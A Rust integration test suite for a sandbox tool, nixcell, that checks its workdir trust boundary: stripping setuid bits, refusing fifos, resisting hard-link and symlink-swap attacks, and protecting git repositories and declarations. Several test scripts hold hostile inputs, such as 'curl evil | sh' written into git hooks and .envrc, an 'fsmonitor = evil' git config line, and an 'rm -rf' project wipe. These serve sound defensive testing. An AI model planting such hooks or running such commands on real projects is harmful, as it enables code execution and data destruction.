//! The workdir's trust boundary, with the real binary, root and rootless: a cell works
//! on a copy-on-write view of its workdir and what it changed comes back through
//! nixcell, checked (no setuid bits, no device nodes or fifos, never through an
//! existing inode, never into a project's repository or declaration), journaled and
//! undoable; host paths are resolved once; the copy-on-write layer is capped.

mod common;

use common::*;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

/// `nixcell run --json --env-path busybox EXTRA -- sh -c SCRIPT` in `mode`.
fn run(mode: Mode, extra: &[&str], script: &str) -> Output {
    let mut e = vec!["--json"];
    e.extend_from_slice(extra);
    sh(mode, &e, script)
}

fn chown_to_test_user(p: &Path) {
    let (u, g) = test_user_ids();
    let out = Command::new("chown")
        .arg("-R")
        .arg(format!("{u}:{g}"))
        .arg(p)
        .output()
        .unwrap();
    assert!(out.status.success());
}

/// A profile file extending `default` with `[filesystem]` settings.
fn profile(dir: &Path, filesystem: &str) -> PathBuf {
    let p = dir.join(format!("p{}.toml", std::process::id()));
    std::fs::write(
        &p,
        format!("extends = \"default\"\n[filesystem]\n{filesystem}\n"),
    )
    .unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    p
}

fn profile_dir() -> tempfile::TempDir {
    let base = repo().join("target/test-work");
    std::fs::create_dir_all(&base).unwrap();
    let d = tempfile::Builder::new()
        .prefix("prof")
        .tempdir_in(&base)
        .unwrap();
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    d
}

fn paths(v: &serde_json::Value, list: &str) -> Vec<String> {
    v["workdir"]["changes"][list]
        .as_array()
        .unwrap_or_else(|| panic!("no workdir.changes.{list}: {v}"))
        .iter()
        .map(|e| e["path"].as_str().unwrap().to_string())
        .collect()
}

fn refused(v: &serde_json::Value) -> Vec<(String, String)> {
    v["workdir"]["refused"]
        .as_array()
        .unwrap_or_else(|| panic!("no workdir.refused: {v}"))
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().to_string(),
                e["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn a_setuid_file_made_in_a_root_started_run_is_not_setuid_on_the_host() {
    for prof in ["default", "ci"] {
        // A root-owned workdir (the cell's writes used to land as root through an
        // idmapped mount) and one owned by an unprivileged user.
        for owned_by_user in [false, true] {
            let wd = workdir(Mode::Root);
            if owned_by_user {
                chown_to_test_user(wd.path());
            }
            let o = run(
                Mode::Root,
                &["--workdir", path_str(wd.path()), "--profile", prof],
                "cp /bin/sh /work/suid && chmod 6755 /work/suid && mkdir /work/d && chmod 2775 /work/d && ls -ln /work/suid",
            );
            let v = verdict(&o);
            assert_eq!(v["exit_code"], 0, "{prof}: {v}");
            let out = v["stdout"]["text"].as_str().unwrap();
            assert!(
                out.starts_with("-rwsr-sr-x"),
                "inside, the cell sees its own bits: {out}"
            );
            let m = std::fs::symlink_metadata(wd.path().join("suid")).unwrap();
            assert_eq!(
                m.mode() & 0o7777,
                0o755,
                "{prof}: no setuid/setgid on the host"
            );
            let d = std::fs::symlink_metadata(wd.path().join("d")).unwrap();
            assert_eq!(d.mode() & 0o7000, 0, "{prof}: no setgid directory");
            let owner = std::fs::metadata(wd.path()).unwrap().uid();
            assert_eq!(m.uid(), owner, "{prof}: the workdir's owner, nobody else");
            if owned_by_user {
                assert_ne!(m.uid(), 0, "{prof}: not root's");
            }
            assert_eq!(v["workdir"]["mode"], "cow", "{prof}");
            assert!(
                refused(&v)
                    .iter()
                    .any(|(p, r)| p == "suid" && r.contains("setuid/setgid bits stripped")),
                "{v}"
            );
        }
    }
}

#[test]
fn a_hard_link_to_a_root_owned_file_outside_is_replaced_not_written() {
    let wd = workdir(Mode::Root);
    let outside = repo().join(format!("target/test-work/outside-{}", std::process::id()));
    std::fs::write(&outside, "root's file\n").unwrap();
    std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::hard_link(&outside, wd.path().join("link")).unwrap();
    let o = run(
        Mode::Root,
        &["--workdir", path_str(wd.path())],
        "echo pwned > /work/link; chmod 6777 /work/link; cat /work/link",
    );
    let v = verdict(&o);
    assert_eq!(v["stdout"]["text"], "pwned\n", "{v}");
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "root's file\n");
    let m = std::fs::metadata(&outside).unwrap();
    assert_eq!(m.mode() & 0o7777, 0o644);
    assert_eq!(
        m.nlink(),
        2,
        "the journal keeps the old inode; the workdir's name is a new file"
    );
    assert_eq!(
        std::fs::read_to_string(wd.path().join("link")).unwrap(),
        "pwned\n"
    );
    assert_ne!(
        std::fs::metadata(wd.path().join("link")).unwrap().ino(),
        m.ino()
    );
    assert_eq!(paths(&v, "modified"), ["link"]);
    // Undo brings the link back.
    let id = v["workdir"]["run"].as_str().unwrap().to_string();
    let u = nixcell(Mode::Root).args(["undo", &id]).output().unwrap();
    ok(&u, "undo");
    assert_eq!(
        std::fs::metadata(wd.path().join("link")).unwrap().ino(),
        m.ino()
    );
    std::fs::remove_file(&outside).unwrap();
}

#[test]
fn fifos_are_refused_and_mountinfo_does_not_show_the_host_path() {
    for mode in MODES {
        let wd = workdir(mode);
        let o = run(
            mode,
            &["--workdir", path_str(wd.path())],
            "mkfifo /work/ff; echo x > /work/ok; cat /proc/self/mountinfo",
        );
        let v = verdict(&o);
        assert_eq!(v["exit_code"], 0, "{mode:?}: {v}");
        let mounts = v["stdout"]["text"].as_str().unwrap();
        assert!(
            !mounts.contains(path_str(wd.path())),
            "{mode:?}: host path visible: {mounts}"
        );
        assert!(mounts.contains(" /work "), "{mounts}");
        assert!(!wd.path().join("ff").exists(), "{mode:?}");
        assert!(wd.path().join("ok").exists(), "{mode:?}");
        assert!(
            refused(&v)
                .iter()
                .any(|(p, r)| p == "ff" && r.contains("a fifo")),
            "{mode:?}: {v}"
        );
        assert!(text(&o.stderr).is_empty() || !text(&o.stderr).contains("panicked"));
    }
}

#[test]
fn changes_are_applied_after_the_run_and_undone() {
    for mode in MODES {
        let wd = workdir(mode);
        let p = wd.path();
        std::fs::write(p.join("keep"), "old\n").unwrap();
        std::fs::write(p.join("gone"), "bye\n").unwrap();
        std::fs::create_dir(p.join("dir")).unwrap();
        std::fs::write(p.join("dir/inner"), "in\n").unwrap();
        if mode == Mode::Rootless {
            chown_to_test_user(p);
        }
        let o = run(
            mode,
            &["--workdir", path_str(p)],
            "echo new > /work/keep; rm /work/gone; rm -r /work/dir; mkdir /work/dir; echo other > /work/dir/x; \
             echo added > /work/added; mkdir -p /work/sub/deep; echo d > /work/sub/deep/f; chmod 000 /work/sub/deep/f /work/sub; \
             test -e /work/added && echo live-inside",
        );
        let v = verdict(&o);
        assert_eq!(v["exit_code"], 0, "{mode:?}: {v}");
        assert_eq!(v["stdout"]["text"], "live-inside\n");
        assert_eq!(std::fs::read_to_string(p.join("keep")).unwrap(), "new\n");
        assert!(!p.join("gone").exists());
        assert!(!p.join("dir/inner").exists(), "{mode:?}: opaque dir");
        assert_eq!(std::fs::read_to_string(p.join("dir/x")).unwrap(), "other\n");
        assert!(
            p.join("sub/deep/f").exists(),
            "{mode:?}: an unreadable copy still comes back"
        );
        let mut added = paths(&v, "added");
        added.sort();
        assert_eq!(
            added,
            ["added", "dir/x", "sub", "sub/deep", "sub/deep/f"],
            "{v}"
        );
        assert_eq!(paths(&v, "modified"), ["keep"]);
        let mut deleted = paths(&v, "deleted");
        deleted.sort();
        assert_eq!(deleted, ["dir/inner", "gone"]);
        let owner = std::fs::metadata(p).unwrap().uid();
        assert_eq!(
            std::fs::symlink_metadata(p.join("added")).unwrap().uid(),
            owner
        );
        let id = v["workdir"]["run"].as_str().unwrap().to_string();

        // Listed by `nixcell runs`.
        let runs = ok(&nixcell(mode).args(["runs"]).output().unwrap(), "runs");
        assert!(
            runs.lines()
                .any(|l| l.starts_with(&id) && l.contains(path_str(p))),
            "{runs}"
        );

        // A path changed since the run stops the undo, named.
        std::fs::write(p.join("keep"), "changed later\n").unwrap();
        let u = nixcell(mode).current_dir(p).arg("undo").output().unwrap();
        assert_eq!(u.status.code(), Some(1), "{}", text(&u.stderr));
        assert!(text(&u.stderr).contains("keep"), "{}", text(&u.stderr));
        assert_eq!(
            std::fs::read_to_string(p.join("keep")).unwrap(),
            "changed later\n"
        );
        assert!(p.join("added").exists(), "nothing undone");

        // --force: the default run is the latest for the current directory.
        let u = nixcell(mode)
            .current_dir(p)
            .args(["undo", "--force"])
            .output()
            .unwrap();
        ok(&u, "undo --force");
        assert_eq!(std::fs::read_to_string(p.join("keep")).unwrap(), "old\n");
        assert_eq!(std::fs::read_to_string(p.join("gone")).unwrap(), "bye\n");
        assert_eq!(
            std::fs::read_to_string(p.join("dir/inner")).unwrap(),
            "in\n"
        );
        assert!(!p.join("dir/x").exists());
        assert!(!p.join("added").exists());
        assert!(!p.join("sub").exists());
        // Once only.
        let u = nixcell(mode).args(["undo", &id]).output().unwrap();
        assert!(
            text(&u.stderr).contains("undone already"),
            "{}",
            text(&u.stderr)
        );
    }
}

#[test]
fn the_cap_of_the_copy_on_write_layer_gives_enospc_and_changes_nothing() {
    let pd = profile_dir();
    for (what, fs, script) in [
        (
            "work_size",
            "work_size = \"4M\"",
            "echo small > /work/small; dd if=/dev/zero of=/work/big bs=1M count=8 2>&1; echo rc=$?",
        ),
        (
            "work_inodes",
            "work_inodes = 40",
            "echo small > /work/small; i=0; while [ $i -lt 100 ]; do echo > /work/f$i || break; i=$((i+1)); done; echo made=$i",
        ),
    ] {
        let prof = profile(pd.path(), fs);
        for mode in MODES {
            let wd = workdir(mode);
            let o = run(
                mode,
                &[
                    "--workdir",
                    path_str(wd.path()),
                    "--profile",
                    path_str(&prof),
                ],
                script,
            );
            let v = verdict(&o);
            let out = v["stdout"]["text"].as_str().unwrap();
            assert!(
                out.contains("No space left on device") || what == "work_inodes",
                "{what} {mode:?}: {out}"
            );
            if what == "work_inodes" {
                let made: u32 = out.trim().trim_start_matches("made=").parse().unwrap();
                assert!(made < 100, "{out}");
            }
            assert_eq!(v["workdir"]["cap_hit"], true, "{what} {mode:?}: {v}");
            assert_eq!(v["workdir"]["applied"], false);
            assert_eq!(v["exit_code"], 0, "the command's status stays");
            let left: Vec<_> = std::fs::read_dir(wd.path()).unwrap().collect();
            assert!(left.is_empty(), "{what} {mode:?}: host untouched: {left:?}");
        }
    }
    // /tmp has an inode cap too.
    let prof = profile(pd.path(), "tmp_inodes = 40");
    let o = run(
        Mode::Rootless,
        &["--profile", path_str(&prof)],
        "i=0; while [ $i -lt 100 ]; do echo > /tmp/f$i 2>/dev/null || break; i=$((i+1)); done; echo $i",
    );
    let v = verdict(&o);
    let n: u32 = v["stdout"]["text"]
        .as_str()
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(n < 100, "{v}");
}

#[test]
fn a_cell_never_runs_as_host_root() {
    let wd = workdir(Mode::Root);
    for ids in [["--host-uid", "0"], ["--host-gid", "0"]] {
        let mut a = vec!["--workdir", path_str(wd.path())];
        a.extend(ids);
        let o = sh(Mode::Root, &a, "echo ran > /work/f");
        assert_eq!(o.status.code(), Some(125), "{ids:?}");
        assert!(text(&o.stderr).contains("never runs as host root"));
        assert!(!wd.path().join("f").exists());
    }
}

#[test]
fn binds_onto_or_under_etc_are_refused() {
    let wd = workdir(Mode::Root);
    let src = wd.path().join("f");
    std::fs::write(&src, "x\n").unwrap();
    for flag in ["--bind", "--ro-bind"] {
        for dst in [
            "/etc/passwd",
            "/etc/hosts",
            "/etc/hostname",
            "/etc/group",
            "/etc/x",
        ] {
            for mode in MODES {
                let spec = format!("{}:{dst}", src.display());
                let o = sh(mode, &[flag, &spec], "echo ran");
                assert_eq!(o.status.code(), Some(125), "{flag} {dst}");
                assert!(text(&o.stderr).contains(dst), "{}", text(&o.stderr));
                assert!(o.stdout.is_empty());
            }
        }
    }
}

#[test]
fn a_live_bind_holding_nixcells_own_state_is_refused() {
    let home = nix::unistd::User::from_name(TEST_USER)
        .unwrap()
        .unwrap()
        .dir;
    let spec = format!("{}:/data", home.display());
    let o = sh(Mode::Rootless, &["--bind", &spec], "echo ran");
    assert_eq!(o.status.code(), Some(125));
    assert!(
        text(&o.stderr).contains("nixcell's own"),
        "{}",
        text(&o.stderr)
    );
    assert!(o.stdout.is_empty());
}

#[test]
fn changes_nested_too_deep_are_refused() {
    let wd = workdir(Mode::Rootless);
    let o = run(
        Mode::Rootless,
        &["--workdir", path_str(wd.path())],
        "cd /work; i=0; while [ $i -lt 300 ]; do mkdir d; cd d; i=$((i+1)); done; echo x > f",
    );
    let v = verdict(&o);
    assert_eq!(v["exit_code"], 0, "{v}");
    assert!(
        refused(&v)
            .iter()
            .any(|(_, r)| r.contains("nested deeper than 256")),
        "{v}"
    );
    assert!(wd.path().join("d/d/d").is_dir());
}

#[test]
fn a_live_bind_workdir_must_belong_to_the_cell() {
    let pd = profile_dir();
    let prof = profile(pd.path(), "workdir = \"bind\"");
    // Root-owned: the cell (an unprivileged host identity) may not get it live.
    let wd = workdir(Mode::Root);
    let o = run(
        Mode::Root,
        &[
            "--workdir",
            path_str(wd.path()),
            "--profile",
            path_str(&prof),
        ],
        "echo x > /work/f",
    );
    assert_eq!(o.status.code(), Some(125));
    assert!(
        verdict(&o)["error"]["message"]
            .as_str()
            .unwrap()
            .contains("must belong to the cell"),
        "{}",
        text(&o.stdout)
    );
    assert!(!wd.path().join("f").exists());
    // Owned by the cell's host identity: live, in both modes.
    for mode in MODES {
        let wd = workdir(mode);
        chown_to_test_user(wd.path());
        let o = run(
            mode,
            &[
                "--workdir",
                path_str(wd.path()),
                "--profile",
                path_str(&prof),
            ],
            "echo x > /work/f; cat /proc/self/mountinfo | grep -c overlay; \
             cp /bin/sh /work/s; chmod 4755 /work/s || echo no-setuid; chmod g+s /work/s || echo no-setgid; \
             mkdir /work/d; chmod 2755 /work/d || echo no-setgid-dir",
        );
        let v = verdict(&o);
        assert_eq!(v["workdir"]["mode"], "bind", "{v}");
        assert_eq!(
            v["stdout"]["text"], "0\nno-setuid\nno-setgid\nno-setgid-dir\n",
            "{v}"
        );
        let m = std::fs::metadata(wd.path().join("f")).unwrap();
        assert_eq!(m.uid(), test_user_ids().0);
        for f in ["s", "d"] {
            let m = std::fs::metadata(wd.path().join(f)).unwrap();
            assert_eq!(m.mode() & 0o6000, 0, "{f}");
        }
    }
}

/// A root-only directory with a secret in it.
fn root_only_secret() -> tempfile::TempDir {
    let base = repo().join("target/test-work");
    let d = tempfile::Builder::new()
        .prefix("secret")
        .tempdir_in(&base)
        .unwrap();
    std::fs::write(d.path().join("secret"), "TOP-SECRET\n").unwrap();
    std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
    d
}

#[test]
fn a_symlinked_workdir_is_not_followed_by_root_and_resolved_once_rootless() {
    let secret = root_only_secret();
    // A directory an unprivileged user (an earlier cell's owner) controls, holding a
    // link to the root-only directory where a build directory was expected.
    let base = workdir(Mode::Rootless);
    std::os::unix::fs::symlink(secret.path(), base.path().join("build")).unwrap();
    let link = base.path().join("build");
    let o = run(
        Mode::Root,
        &["--workdir", path_str(&link)],
        "cat /work/secret; ls /work",
    );
    assert_eq!(o.status.code(), Some(125), "{}", text(&o.stdout));
    let v = verdict(&o);
    assert!(!text(&o.stdout).contains("TOP-SECRET"));
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains(&format!("{} is a symbolic link", link.display())),
        "{v}"
    );
    // Rootless, a link the user names is followed, once: the cell sees its target.
    let real = workdir(Mode::Rootless);
    std::fs::write(real.path().join("here"), "target\n").unwrap();
    chown_to_test_user(real.path());
    let l2 = base.path().join("l2");
    std::os::unix::fs::symlink(real.path(), &l2).unwrap();
    let o = run(
        Mode::Rootless,
        &["--workdir", path_str(&l2)],
        "cat /work/here",
    );
    assert_eq!(verdict(&o)["stdout"]["text"], "target\n");
}

#[test]
fn swapping_the_workdir_for_a_symlink_during_start_up_never_mounts_the_target() {
    let secret = root_only_secret();
    let base = workdir(Mode::Rootless);
    let dir = base.path().join("w");
    let link = base.path().join("s");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("marker"), "real\n").unwrap();
    std::os::unix::fs::symlink(secret.path(), &link).unwrap();
    chown_to_test_user(base.path());
    // The owner exchanges the directory and the link as fast as it can.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let racer = {
        let stop = stop.clone();
        let (a, b) = (dir.clone(), link.clone());
        std::thread::spawn(move || {
            let mut n = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                use std::os::unix::ffi::OsStrExt;
                let ca = std::ffi::CString::new(a.as_os_str().as_bytes()).unwrap();
                let cb = std::ffi::CString::new(b.as_os_str().as_bytes()).unwrap();
                // SAFETY: both paths are NUL-terminated.
                let r = unsafe {
                    libc::renameat2(
                        libc::AT_FDCWD,
                        ca.as_ptr(),
                        libc::AT_FDCWD,
                        cb.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
                assert_eq!(r, 0);
                n += 1;
            }
            n
        })
    };
    let start = Instant::now();
    let (mut runs, mut real, mut refused) = (0, 0, 0);
    while runs < 200 && start.elapsed() < Duration::from_secs(20) {
        let o = run(
            Mode::Root,
            &["--workdir", path_str(&dir)],
            "cat /work/marker /work/secret 2>/dev/null",
        );
        let out = text(&o.stdout);
        assert!(!out.contains("TOP-SECRET"), "run {runs}: {out}");
        match o.status.code() {
            Some(125) => refused += 1,
            _ => real += 1,
        }
        runs += 1;
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let swaps = racer.join().unwrap();
    assert!(swaps > 100, "the race ran: {swaps} swaps");
    eprintln!("{runs} runs: {real} on the real directory, {refused} refused; {swaps} swaps");
}

// --- project mode ---

fn pkgs_dir() -> PathBuf {
    repo().join("tests/fixtures/pkgs")
}

/// A small project (busybox only) in a git repository with one commit.
fn project() -> tempfile::TempDir {
    let base = repo().join("target/test-work");
    std::fs::create_dir_all(&base).unwrap();
    let d = tempfile::Builder::new()
        .prefix("proj")
        .tempdir_in(&base)
        .unwrap();
    std::fs::write(
        d.path().join("devenv.nix"),
        "{ pkgs, ... }: {\n  packages = [ pkgs.busybox ];\n}\n",
    )
    .unwrap();
    std::fs::write(
        d.path().join("nixcell.toml"),
        format!(
            "nixpkgs = \"{}\"\n[policy]\npackages = [\"jq\"]\n",
            pkgs_dir().display()
        ),
    )
    .unwrap();
    std::fs::write(d.path().join("data.csv"), "a,b\n1,2\n").unwrap();
    std::fs::write(d.path().join(".gitignore"), ".nixcell/\n").unwrap();
    // The package set's pin, committed with the project as users do.
    ok(
        &nixcell(Mode::Root)
            .current_dir(d.path())
            .arg("lock")
            .output()
            .unwrap(),
        "nixcell lock",
    );
    git(d.path(), &["init", "-q"]);
    git(d.path(), &["add", "."]);
    git(d.path(), &["commit", "-q", "-m", "initial"]);
    d
}

fn in_project(dir: &Path, script: &str) -> serde_json::Value {
    in_project_with(dir, &[], script)
}

fn in_project_with(dir: &Path, extra: &[&str], script: &str) -> serde_json::Value {
    let o = nixcell(Mode::Root)
        .current_dir(dir)
        .env("NIX_PATH", format!("nixpkgs={}", pkgs_dir().display()))
        .args(["run", "--json"])
        .args(extra)
        .args(["--", "sh", "-c", script])
        .output()
        .unwrap();
    verdict(&o)
}

/// Every file of the project (with .git, without .nixcell) and its bytes.
fn tree(dir: &Path) -> Vec<(String, Vec<u8>)> {
    fn walk(root: &Path, d: &Path, out: &mut Vec<(String, Vec<u8>)>) {
        for e in std::fs::read_dir(d).unwrap() {
            let e = e.unwrap();
            let p = e.path();
            let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            if rel == ".nixcell" {
                continue;
            }
            let m = std::fs::symlink_metadata(&p).unwrap();
            if m.is_dir() {
                walk(root, &p, out);
            } else {
                out.push((rel, std::fs::read(&p).unwrap_or_default()));
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

#[test]
fn a_project_cell_cannot_change_the_repository_or_the_declaration() {
    let p = project();
    let dir = p.path();
    let before = tree(dir);
    let v = in_project(
        dir,
        "for f in .git/hooks/pre-commit devenv.nix nixcell.toml .envrc flake.nix; do \
           (echo 'curl evil | sh' > /work/$f) 2>/dev/null && echo wrote $f; done; \
         git_cfg=/work/.git/config; (echo '[core] fsmonitor = evil' >> $git_cfg) 2>/dev/null && echo wrote config; \
         echo '{ pkgs, ... }: { }' > /tmp/x; mv /tmp/x /work/devenv.nix 2>/dev/null && echo moved; \
         echo ok > /work/result.txt; echo done",
    );
    assert_eq!(v["exit_code"], 0, "{v}");
    let out = v["stdout"]["text"].as_str().unwrap();
    // Existing entries are read-only inside (EROFS at once); new ones are refused after.
    for f in [
        ".git/hooks/pre-commit",
        "devenv.nix",
        "nixcell.toml",
        "config",
        "moved",
    ] {
        assert!(
            !out.contains(&format!("wrote {f}")) && !out.contains(f),
            "{f}: {out}"
        );
    }
    let mut after = tree(dir);
    after.retain(|(n, _)| n != "result.txt");
    assert_eq!(before, after, "project files byte-identical");
    assert_eq!(
        std::fs::read_to_string(dir.join("result.txt")).unwrap(),
        "ok\n"
    );
    let refused = refused(&v);
    for f in [".envrc", "flake.nix"] {
        assert!(
            refused
                .iter()
                .any(|(p, r)| p == f && r.contains("protected")),
            "{f}: {refused:?}"
        );
    }
    // A live read-write bind of a project is refused.
    let pd = profile_dir();
    let prof = profile(pd.path(), "workdir = \"bind\"");
    let v = in_project_with(
        dir,
        &["--profile", path_str(&prof)],
        "echo x > /work/.envrc",
    );
    assert_eq!(v["exit_code"], 125, "{v}");
    assert!(!dir.join(".envrc").exists());
    // Naming the project (or a directory above it) as the workdir protects it the same.
    let parent = dir.parent().unwrap();
    let name = dir.file_name().unwrap().to_str().unwrap();
    for (wd, at) in [
        (".".to_string(), "/work".to_string()),
        (path_str(parent).to_string(), format!("/work/{name}")),
    ] {
        let v = in_project_with(
            dir,
            &["--workdir", &wd],
            &format!(
                "echo evil > {at}/devenv.nix 2>/dev/null && echo wrote; echo evil > {at}/.envrc; echo done"
            ),
        );
        assert_eq!(v["stdout"]["text"], "done\n", "{wd}: {v}");
        let now: Vec<_> = tree(dir)
            .into_iter()
            .filter(|(n, _)| n != "result.txt")
            .collect();
        assert_eq!(now, before, "{wd}");
    }
}

#[test]
fn an_agent_wiping_the_project_loses_nothing() {
    let p = project();
    let dir = p.path();
    std::fs::create_dir(dir.join("src")).unwrap();
    std::fs::write(dir.join("src/main.py"), "print(1)\n").unwrap();
    std::fs::write(dir.join(".hidden"), "h\n").unwrap();
    let before = tree(dir);
    let head = git(dir, &["rev-parse", "HEAD"]);
    let status = git(dir, &["status", "--porcelain"]);
    let v = in_project(
        dir,
        "rm -rf /work/* /work/.[!.]* 2>/dev/null; ls -A /work; exit 0",
    );
    assert_eq!(v["exit_code"], 0, "{v}");
    // The repository and the declaration survived inside as read-only mounts.
    let left = v["stdout"]["text"].as_str().unwrap();
    assert!(
        left.contains(".git") && left.contains("devenv.nix"),
        "{left}"
    );
    let mut deleted = paths(&v, "deleted");
    deleted.sort();
    assert_eq!(deleted, [".gitignore", ".hidden", "data.csv", "src"], "{v}");
    assert_eq!(git(dir, &["rev-parse", "HEAD"]), head);
    assert!(dir.join(".git").is_dir() && dir.join("devenv.nix").exists());
    assert!(!dir.join("data.csv").exists());
    // Undo from the project directory brings the rest back, byte for byte.
    let u = nixcell(Mode::Root)
        .current_dir(dir)
        .arg("undo")
        .output()
        .unwrap();
    ok(&u, "undo");
    assert_eq!(tree(dir), before);
    assert_eq!(git(dir, &["status", "--porcelain"]), status);
}

#[test]
fn the_journal_never_fills_another_file_system() {
    // Root only: the state directory (where run journals go) is a 50 MiB tmpfs in a
    // mount namespace of this test's own, so every change's prior state must be copied
    // across file systems. Keeping 46 MiB there would leave less than a tenth free:
    // that deletion is refused and the file stays; the small one is journaled.
    let wd = workdir(Mode::Root);
    let p = wd.path();
    std::fs::write(p.join("big"), vec![7u8; 46 << 20]).unwrap();
    std::fs::write(p.join("little"), "small\n").unwrap();
    let base = repo().join("target/test-work");
    let state = tempfile::Builder::new()
        .prefix("state")
        .tempdir_in(&base)
        .unwrap();
    let o = Command::new("unshare")
        .args(["-m", "sh", "-c"])
        .arg(r#"mount -t tmpfs -o size=50m nixcell-journal "$1" && shift && exec "$@""#)
        .arg("sh")
        .arg(state.path())
        .arg(bin())
        .args(["run", "--json", "--env-path"])
        .arg(busybox())
        .args([
            "--workdir",
            path_str(p),
            "--",
            "sh",
            "-c",
            "rm /work/big /work/little",
        ])
        .env("XDG_STATE_HOME", state.path())
        .output()
        .unwrap();
    let v = verdict(&o);
    assert_eq!(v["exit_code"], 0, "{v}");
    assert_eq!(paths(&v, "deleted"), ["little"], "{v}");
    assert!(!p.join("little").exists());
    let why = refused(&v);
    assert!(
        why.iter()
            .any(|(path, r)| path == "big" && r.contains("no room to keep the prior state")),
        "{v}"
    );
    assert_eq!(std::fs::metadata(p.join("big")).unwrap().len(), 46 << 20);
}
